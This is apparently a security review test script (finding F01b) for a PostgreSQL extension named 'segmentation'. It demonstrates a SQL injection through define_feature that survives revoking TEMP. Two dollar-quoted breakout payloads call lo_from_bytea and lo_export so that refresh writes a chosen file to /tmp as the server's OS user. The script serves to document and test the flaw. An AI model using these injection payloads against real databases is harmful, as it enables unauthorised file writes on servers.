-- F01b: the same injection without any function of the attacker's (e.g.
-- where TEMP is revoked): dollar-quoted strings survive the breakout; two
-- conditions (their probes run one after the other) write a file of the
-- attacker's choice as the server's OS user
\c - postgres
REVOKE TEMP ON DATABASE postgres FROM PUBLIC;
\c - r17_admin2
SELECT segmentation.define_feature('inj_a', ARRAY['buy'],
  $c$plan = '\'')) THEN true END OR (SELECT pg_catalog.lo_from_bytea(424242, pg_catalog.convert_to($x$written by the extension owner$x$, $x$UTF8$x$)) > 0) --'$c$);
SELECT segmentation.define_feature('inj_b', ARRAY['buy'],
  $c$plan = '\'')) THEN true END OR (SELECT pg_catalog.lo_export(424242, $x$/tmp/review17-lo.txt$x$) > 0) --'$c$);
SET standard_conforming_strings = off;
SET escape_string_warning = off;
SELECT segmentation.refresh(as_of => '2024-05-02');
\c - postgres
GRANT TEMP ON DATABASE postgres TO PUBLIC;
